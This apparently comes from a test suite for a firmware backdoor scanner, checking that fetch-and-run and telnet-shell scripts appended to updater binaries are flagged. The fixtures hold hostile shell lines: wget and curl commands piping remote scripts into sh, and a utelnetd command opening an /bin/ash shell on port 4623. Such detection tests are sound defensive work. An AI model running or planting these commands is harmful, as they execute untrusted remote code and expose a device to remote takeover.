"""Fetch-and-run in the scripts of update packages and binaries, not only of root filesystems."""
from __future__ import annotations

from pathlib import Path

from nobackdoor.pipeline import PipelineOptions, scan

STUB = Path(__file__).resolve().parents[1] / "fixtures" / "unpack" / "vendor" / "plain-stub.elf"


def test_script_appended_to_an_updater_that_downloads_and_runs_code(tmp_path):
    target = tmp_path / "updater.bin"
    target.write_bytes(STUB.read_bytes() + b"#!/bin/sh\n# post-install\nwget -qO- http://198.51.100.77/n.sh | sh\nexit 0\n")
    res = scan(target, PipelineOptions(jobs=1))
    hits = [f for f in res.findings if f.rule == "phonehome.fetch-and-run"]
    assert len(hits) == 1 and hits[0].severity.value == "high" and "/appended@" in hits[0].path


def test_source_tree_scripts_are_left_to_the_build_analyzer(tmp_path):
    (tmp_path / "tools").mkdir()
    (tmp_path / "tools" / "bootstrap.sh").write_text("#!/bin/sh\ncurl -fsSL https://get.example/i.sh | sh\n")
    (tmp_path / "main.c").write_text("int main(void) { return 0; }\n")
    res = scan(tmp_path, PipelineOptions(jobs=1))
    assert not [f for f in res.findings if f.rule.startswith("phonehome.")]


def test_remote_shell_in_a_script_appended_to_an_updater(tmp_path):
    target = tmp_path / "updater.bin"
    target.write_bytes(STUB.read_bytes() + b"#!/bin/sh\n/usr/sbin/utelnetd -l /bin/ash -p 4623 &\nexit 0\n")
    res = scan(target, PipelineOptions(jobs=1))
    hits = [f for f in res.findings if f.rule == "services.telnetd-shell"]
    assert len(hits) == 1 and hits[0].severity.value == "high"
